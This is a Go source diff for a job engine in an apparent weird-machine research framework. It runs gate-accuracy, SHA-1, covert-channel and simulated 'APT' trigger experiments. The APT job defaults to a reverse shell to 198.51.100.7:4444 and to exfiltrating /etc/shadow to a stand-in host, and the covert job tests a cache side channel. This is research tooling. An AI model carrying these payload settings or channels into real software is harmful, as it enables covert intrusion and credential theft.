@@ -1,0 +1,399 @@
+package engine
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"sort"
+	"sync"
+
+	"uwm/internal/covert"
+	"uwm/internal/sha1wm"
+	"uwm/internal/wmapt"
+)
+
+// Handler executes one attempt of a job type against a worker's Env.
+// The returned value is JSON-marshaled for voting, so it must
+// serialize deterministically (no maps with mixed key order, no
+// pointers compared by address). Handlers must honor ctx at gate
+// boundaries: check it once per gate activation (or per byte, per
+// ping) and abandon the loop when it is done.
+type Handler func(ctx context.Context, env *Env, params json.RawMessage) (any, error)
+
+// Built-in job types.
+const (
+	JobTypeGate   = "gate"
+	JobTypeSHA1   = "sha1"
+	JobTypeAPT    = "apt"
+	JobTypeCovert = "covert"
+)
+
+var (
+	handlersMu sync.RWMutex
+	handlers   = map[string]Handler{
+		JobTypeGate:   runGateJob,
+		JobTypeSHA1:   runSHA1Job,
+		JobTypeAPT:    runAPTJob,
+		JobTypeCovert: runCovertJob,
+	}
+)
+
+// Register adds (or replaces) a job type. Call before the engine
+// starts accepting submissions.
+func Register(name string, h Handler) {
+	handlersMu.Lock()
+	handlers[name] = h
+	handlersMu.Unlock()
+}
+
+func lookupHandler(name string) (Handler, bool) {
+	handlersMu.RLock()
+	h, ok := handlers[name]
+	handlersMu.RUnlock()
+	return h, ok
+}
+
+// JobTypes returns the registered job type names, sorted.
+func JobTypes() []string {
+	handlersMu.RLock()
+	names := make([]string, 0, len(handlers))
+	for n := range handlers {
+		names = append(names, n)
+	}
+	handlersMu.RUnlock()
+	sort.Strings(names)
+	return names
+}
+
+// decodeParams unmarshals params into dst, treating empty params as
+// all-defaults and unknown fields as submission errors.
+func decodeParams(params json.RawMessage, dst any) error {
+	if len(params) == 0 {
+		return nil
+	}
+	dec := json.NewDecoder(bytes.NewReader(params))
+	dec.DisallowUnknownFields()
+	if err := dec.Decode(dst); err != nil {
+		return fmt.Errorf("engine: bad job params: %w", err)
+	}
+	return nil
+}
+
+// message decodes the shared message parameter shape: Text wins when
+// set, otherwise B64 is decoded, otherwise the fallback is used.
+func decodeMessage(text, b64 string, fallback []byte) ([]byte, error) {
+	switch {
+	case text != "":
+		return []byte(text), nil
+	case b64 != "":
+		data, err := base64.StdEncoding.DecodeString(b64)
+		if err != nil {
+			return nil, fmt.Errorf("engine: bad base64 message: %w", err)
+		}
+		return data, nil
+	default:
+		return fallback, nil
+	}
+}
+
+// --- gate jobs ---------------------------------------------------------
+
+// GateParams selects a gate by name and the input vectors to run.
+// Names cover both families: AND, OR, NAND, AND_AND_OR run through the
+// redundant skelly library; TSX_AND, TSX_OR, TSX_XOR, TSX_ASSIGN run
+// the transactional gates directly.
+type GateParams struct {
+	Gate string `json:"gate"`
+	// Inputs lists explicit activations, one vector per activation.
+	Inputs [][]int `json:"inputs,omitempty"`
+	// Random adds this many uniformly drawn input vectors (from the
+	// attempt's derived RNG) when Inputs is empty; default 16.
+	Random int `json:"random,omitempty"`
+}
+
+// GateResult reports every activation's outputs next to the golden
+// truth table, plus the aggregate accuracy.
+type GateResult struct {
+	Gate     string  `json:"gate"`
+	Outputs  [][]int `json:"outputs"`
+	Golden   [][]int `json:"golden"`
+	Correct  int     `json:"correct"`
+	Total    int     `json:"total"`
+	Accuracy float64 `json:"accuracy"`
+}
+
+func runGateJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
+	p := GateParams{Gate: "AND_AND_OR"}
+	if err := decodeParams(params, &p); err != nil {
+		return nil, err
+	}
+
+	// Resolve the gate in either family behind one closure.
+	var arity int
+	var run func(in []int) ([]int, error)
+	var golden func(in []int) []int
+	if g := env.Rig().BPGate(p.Gate); g != nil {
+		arity = g.Arity()
+		run = func(in []int) ([]int, error) {
+			v, err := g.Run(in...)
+			if err != nil {
+				return nil, err
+			}
+			return []int{v}, nil
+		}
+		golden = func(in []int) []int { return []int{g.Golden(in)} }
+	} else if g, ok := env.Rig().TSX[p.Gate]; ok {
+		arity = g.Arity()
+		run = func(in []int) ([]int, error) { return g.Run(in...) }
+		golden = g.Golden
+	} else {
+		return nil, fmt.Errorf("engine: unknown gate %q", p.Gate)
+	}
+
+	inputs := p.Inputs
+	if len(inputs) == 0 {
+		n := p.Random
+		if n <= 0 {
+			n = 16
+		}
+		rng := env.RNG()
+		inputs = make([][]int, n)
+		for i := range inputs {
+			vec := make([]int, arity)
+			for k := range vec {
+				vec[k] = rng.Bit()
+			}
+			inputs[i] = vec
+		}
+	}
+
+	res := GateResult{Gate: p.Gate, Outputs: make([][]int, 0, len(inputs)), Golden: make([][]int, 0, len(inputs))}
+	for _, in := range inputs {
+		if err := ctx.Err(); err != nil {
+			return nil, err
+		}
+		if len(in) != arity {
+			return nil, fmt.Errorf("engine: gate %s wants %d inputs, got %d", p.Gate, arity, len(in))
+		}
+		out, err := run(in)
+		if err != nil {
+			return nil, err
+		}
+		want := golden(in)
+		res.Outputs = append(res.Outputs, out)
+		res.Golden = append(res.Golden, want)
+		res.Total++
+		if equalInts(out, want) {
+			res.Correct++
+		}
+	}
+	if res.Total > 0 {
+		res.Accuracy = float64(res.Correct) / float64(res.Total)
+	}
+	return res, nil
+}
+
+func equalInts(a, b []int) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}
+
+// --- sha1 jobs ---------------------------------------------------------
+
+// SHA1Params carries the message to hash, as text or base64.
+type SHA1Params struct {
+	Message string `json:"message,omitempty"`
+	B64     string `json:"message_b64,omitempty"`
+}
+
+// SHA1Result is the weird digest next to the architectural reference.
+// Match is false when gate errors corrupted the computation — exactly
+// the case the engine's vote-of-N policy exists to outvote.
+type SHA1Result struct {
+	Digest    string `json:"digest"`
+	Reference string `json:"reference"`
+	Match     bool   `json:"match"`
+	GateOps   uint64 `json:"gate_ops"`
+}
+
+func runSHA1Job(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
+	var p SHA1Params
+	if err := decodeParams(params, &p); err != nil {
+		return nil, err
+	}
+	msg, err := decodeMessage(p.Message, p.B64, []byte("weird machines compute with time"))
+	if err != nil {
+		return nil, err
+	}
+
+	// A full weird SHA-1 runs tens of thousands of gate activations;
+	// the checkpoint makes every one of them a cancellation point so a
+	// deadline stops the hash mid-circuit instead of after it.
+	sk := env.Rig().Skelly
+	sk.SetCheckpoint(ctx.Err)
+	defer sk.SetCheckpoint(nil)
+
+	before := sk.TotalGateOps()
+	sum, err := env.Rig().Hasher.Sum(msg)
+	if err != nil {
+		return nil, err
+	}
+	ref := sha1wm.Sum(msg)
+	return SHA1Result{
+		Digest:    hex.EncodeToString(sum[:]),
+		Reference: hex.EncodeToString(ref[:]),
+		Match:     sum == ref,
+		GateOps:   sk.TotalGateOps() - before,
+	}, nil
+}
+
+// --- apt jobs ----------------------------------------------------------
+
+// APTParams configures one trigger experiment: install the payload on
+// a fresh APT machine (seeded from the attempt seed) and ping it with
+// the correct trigger until the weird XOR decodes it and the payload
+// fires.
+type APTParams struct {
+	// Payload is "reverse-shell" (default) or "exfil-shadow".
+	Payload string `json:"payload,omitempty"`
+	// Addr/Port parameterize the reverse shell.
+	Addr string `json:"addr,omitempty"`
+	Port uint16 `json:"port,omitempty"`
+	// Path/Dest parameterize the exfiltration payload.
+	Path string `json:"path,omitempty"`
+	Dest string `json:"dest,omitempty"`
+	// MaxPings bounds the experiment (default 10000, the paper
+	// experiment's bound).
+	MaxPings int `json:"max_pings,omitempty"`
+}
+
+// APTResult reports how long the trigger took to land.
+type APTResult struct {
+	Payload string   `json:"payload"`
+	Pings   int      `json:"pings"`
+	Events  []string `json:"events"`
+}
+
+func runAPTJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
+	p := APTParams{Payload: "reverse-shell", Addr: "198.51.100.7", Port: 4444,
+		Path: "/etc/shadow", Dest: "198.51.100.7:443", MaxPings: 10000}
+	if err := decodeParams(params, &p); err != nil {
+		return nil, err
+	}
+	var payload wmapt.Payload
+	switch p.Payload {
+	case "reverse-shell":
+		payload = wmapt.ReverseShell{Addr: p.Addr, Port: p.Port}
+	case "exfil-shadow":
+		payload = wmapt.ExfilShadow{Path: p.Path, Dest: p.Dest}
+	default:
+		return nil, fmt.Errorf("engine: unknown payload %q", p.Payload)
+	}
+
+	// The APT owns its machine (the paper runs it on a dedicated rig
+	// with its own noise profile), seeded from the attempt seed so the
+	// experiment replays exactly. The ping loop is inlined rather than
+	// delegated to wmapt.RunTriggerExperiment so each ping is a
+	// cancellation point.
+	host := wmapt.NewEnv()
+	apt, err := wmapt.New(host, wmapt.Options{Seed: env.Seed()})
+	if err != nil {
+		return nil, err
+	}
+	pad, err := apt.Install(payload)
+	if err != nil {
+		return nil, err
+	}
+	if p.MaxPings <= 0 {
+		p.MaxPings = 10000
+	}
+	for i := 0; i < p.MaxPings; i++ {
+		if err := ctx.Err(); err != nil {
+			return nil, err
+		}
+		res, err := apt.HandlePing(pad)
+		if err != nil {
+			return nil, err
+		}
+		if res != nil {
+			return APTResult{Payload: res.Payload, Pings: res.PingsReceived, Events: res.Events}, nil
+		}
+	}
+	return nil, fmt.Errorf("engine: apt trigger did not fire within %d pings", p.MaxPings)
+}
+
+// --- covert jobs -------------------------------------------------------
+
+// CovertParams configures a round trip through the worker's data-cache
+// weird register.
+type CovertParams struct {
+	Message string `json:"message,omitempty"`
+	B64     string `json:"message_b64,omitempty"`
+	// Reps is the per-bit redundancy (majority of reps writes/reads);
+	// default 3.
+	Reps int `json:"reps,omitempty"`
+}
+
+// CovertResult reports the received bytes and the bit-error accounting
+// of the round trip.
+type CovertResult struct {
+	SentB64     string  `json:"sent_b64"`
+	ReceivedB64 string  `json:"received_b64"`
+	Bits        int     `json:"bits"`
+	BitErrors   int     `json:"bit_errors"`
+	ErrorRate   float64 `json:"error_rate"`
+}
+
+func runCovertJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
+	p := CovertParams{Reps: 3}
+	if err := decodeParams(params, &p); err != nil {
+		return nil, err
+	}
+	msg, err := decodeMessage(p.Message, p.B64, []byte("uwm covert channel"))
+	if err != nil {
+		return nil, err
+	}
+	ch := covert.NewChannel(env.Rig().DC, p.Reps)
+	received := make([]byte, 0, len(msg))
+	// Byte-at-a-time so the deadline is honored between register slots.
+	for i := range msg {
+		if err := ctx.Err(); err != nil {
+			return nil, err
+		}
+		out, err := ch.Transfer(msg[i : i+1])
+		if err != nil {
+			return nil, err
+		}
+		received = append(received, out...)
+	}
+	res := CovertResult{
+		SentB64:     base64.StdEncoding.EncodeToString(msg),
+		ReceivedB64: base64.StdEncoding.EncodeToString(received),
+		Bits:        8 * len(msg),
+	}
+	for i := range msg {
+		res.BitErrors += popcount8(msg[i] ^ received[i])
+	}
+	if res.Bits > 0 {
+		res.ErrorRate = float64(res.BitErrors) / float64(res.Bits)
+	}
+	return res, nil
+}
+
+func popcount8(b byte) int {
+	n := 0
+	for ; b != 0; b &= b - 1 {
+		n++
+	}
+	return n
+}
